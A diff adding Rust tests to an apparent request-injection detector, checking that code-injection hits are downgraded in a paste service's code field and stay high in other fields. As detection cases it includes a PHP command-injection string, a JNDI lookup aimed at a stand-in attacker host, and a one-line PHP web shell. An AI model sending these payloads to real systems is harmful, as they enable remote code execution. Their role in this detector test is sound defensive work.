@@ -582,3 +582,141 @@ fn snapshots_never_hold_half_a_batch() {
     let script = last[0].profiles.iter().find(|p| p.field == "body.script");
     assert_eq!(script.map(|p| p.values), Some(batches));
 }
+
+/// What a paste service's `content` field receives: code in several languages, some of
+/// which a code-injection rule matches (`${base}` is PHP's variable-variable syntax too).
+const SNIPPETS: &[&str] = &[
+    "const url = `${base}/api/${id}`;\nfetch(url).then(r => r.json());",
+    "def total(items):\n    return sum(i.price * i.qty for i in items)",
+    "$handler = $this->router->match($path);\n$handler($request);",
+    "if err != nil {\n\treturn fmt.Errorf(\"open %s: %w\", path, err)\n}",
+];
+
+#[test]
+fn a_field_of_code_downgrades_code_injection_hits_and_other_fields_stay_high() {
+    let d = detector("");
+    let t = TenantId::new("acme").unwrap();
+    let send = |n: u64, client: &str, at: u64, field: &str, v: &str| {
+        let body = serde_json::json!({ field: v, "lang": "js" }).to_string();
+        d.inspect(
+            &t,
+            &post(n, "paste", "/api/snippets", client, at, &body),
+            at,
+        )
+    };
+    // Before learning, a snippet is a code-injection finding.
+    let f = send(0, "10.1.1.1", T0, "content", SNIPPETS[0]);
+    assert!(max_conf(&f, Family::CodeInjection) >= 80, "{f:?}");
+    for i in 0..80u64 {
+        let client = format!("10.0.{}.5", (i / 4) % 20);
+        let at = T0 + i * 3 * SEC;
+        send(
+            1 + i,
+            &client,
+            at,
+            "content",
+            SNIPPETS[i as usize % SNIPPETS.len()],
+        );
+    }
+    let p = d
+        .field_profiles(&t)
+        .into_iter()
+        .find(|p| p.field == "body.content")
+        .unwrap();
+    assert!(p.structures().contains(&"code"), "{p:?}");
+    let lang = d
+        .field_profiles(&t)
+        .into_iter()
+        .find(|p| p.field == "body.lang")
+        .unwrap();
+    assert!(lang.structures().is_empty(), "{lang:?}");
+    let later = T0 + 300 * SEC;
+    for (k, v) in SNIPPETS.iter().enumerate() {
+        // The code field: its normal shape, downgraded.
+        let f = send(100 + k as u64, "10.9.9.9", later, "content", v);
+        assert!(f.iter().all(|f| f.confidence < 40), "{v}: {f:?}");
+    }
+    let f = send(110, "10.9.9.9", later, "content", SNIPPETS[0]);
+    assert!(!f.is_empty() && f.iter().all(|f| f.downgraded), "{f:?}");
+    // The same snippet in a field that never carried code: high.
+    let f = send(111, "10.9.9.9", later, "title", SNIPPETS[0]);
+    assert!(max_conf(&f, Family::CodeInjection) >= 80, "{f:?}");
+    assert!(f.iter().all(|f| !f.downgraded), "{f:?}");
+    // Near misses in the code field: an injection that is not a program (no statement),
+    // and JNDI (no field carries it).
+    for (k, (v, family)) in [
+        ("';system('id');//", Family::CodeInjection),
+        ("${jndi:ldap://evil.example/a}", Family::Jndi),
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        let f = send(120 + k as u64, "10.9.9.9", later, "content", v);
+        assert!(max_conf(&f, family) >= 80, "{v}: {f:?}");
+    }
+}
+
+#[test]
+fn one_client_sending_code_teaches_no_field_code() {
+    let d = detector("");
+    let t = TenantId::new("acme").unwrap();
+    for i in 0..200u64 {
+        let at = T0 + i * 2 * SEC;
+        let body = json("content", SNIPPETS[i as usize % SNIPPETS.len()]);
+        d.inspect(
+            &t,
+            &post(i, "paste", "/api/snippets", "10.66.0.1", at, &body),
+            at,
+        );
+    }
+    let p = d
+        .field_profiles(&t)
+        .into_iter()
+        .find(|p| p.field == "body.content")
+        .unwrap();
+    assert!(
+        p.values >= 200 && !p.structures().contains(&"code"),
+        "{p:?}"
+    );
+    let later = T0 + 500 * SEC;
+    let f = d.inspect(
+        &t,
+        &post(
+            999,
+            "paste",
+            "/api/snippets",
+            "10.9.9.9",
+            later,
+            &json("content", SNIPPETS[0]),
+        ),
+        later,
+    );
+    assert!(max_conf(&f, Family::CodeInjection) >= 80, "{f:?}");
+}
+
+#[test]
+fn a_pin_of_code_downgrades_snippets_from_the_first_request() {
+    let d = detector(
+        "[[context.pin]]\nservice = \"paste\"\nfield = \"body.content\"\ncarries = [\"code\", \"template\"]\n",
+    );
+    let t = TenantId::new("acme").unwrap();
+    let send = |n: u64, field: &str, v: &str| {
+        let body = serde_json::json!({ field: v }).to_string();
+        d.inspect(
+            &t,
+            &post(n, "paste", "/api/snippets", "10.1.1.1", T0, &body),
+            T0,
+        )
+    };
+    let f = send(1, "content", SNIPPETS[0]);
+    assert!(
+        !f.is_empty() && f.iter().all(|f| f.downgraded && f.confidence < 40),
+        "{f:?}"
+    );
+    assert!(f[0].evidences[0].reason.contains("pinned"), "{f:?}");
+    // Not pinned to carry markup: PHP code inside markup the pin does not name stays high.
+    let f = send(2, "content", "<p><?php system($_GET['c']); ?></p>");
+    assert!(max_conf(&f, Family::CodeInjection) >= 80, "{f:?}");
+    let f = send(3, "title", SNIPPETS[0]);
+    assert!(max_conf(&f, Family::CodeInjection) >= 80, "{f:?}");
+}
